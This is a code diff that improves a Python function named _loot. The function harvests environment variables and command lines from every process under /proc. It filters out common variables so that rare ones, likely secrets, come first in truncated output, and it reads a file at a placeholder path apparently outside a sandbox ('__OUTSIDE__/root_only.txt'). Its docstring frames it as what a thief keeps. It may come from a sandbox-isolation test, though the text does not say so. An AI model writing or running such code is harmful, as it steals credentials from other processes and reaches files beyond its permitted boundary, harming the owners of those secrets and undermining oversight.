@@ -5,16 +5,23 @@ import os
 
 
 def _loot():
-    found = [repr(dict(os.environ))]
+    """What a thief keeps: the rare variables first (an output cut after a few hundred
+    characters must still carry them), then the files."""
+    entries = {f"{k}={v}" for k, v in os.environ.items()}
     for pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
-        try:
-            with open(f"/proc/{pid}/environ", "rb") as f:
-                found.append(f.read().decode(errors="replace"))
-        except OSError:
-            pass
+        for name in ("environ", "cmdline"):
+            try:
+                with open(f"/proc/{pid}/{name}", "rb") as f:
+                    entries |= {e.decode(errors="replace") for e in f.read().split(b"\0") if e}
+            except OSError:
+                pass
+    common = ("PATH=", "LANG=", "LC_", "HOME=", "TMPDIR=", "OMP_", "MKL_", "PYTHON", "PWD=",
+              "SHLVL=", "_=", "TERM", "HOSTNAME=", "LS_COLORS=", "USER=", "SHELL=", "LOGNAME=")
+    rare = sorted(e for e in entries if "=" in e and not e.startswith(common))
+    found = [" ".join(rare)]
     try:
         with open("__OUTSIDE__/root_only.txt") as f:
-            found.append(f.read())
+            found.insert(0, f.read())
     except OSError:
         pass
     return "\n".join(found)
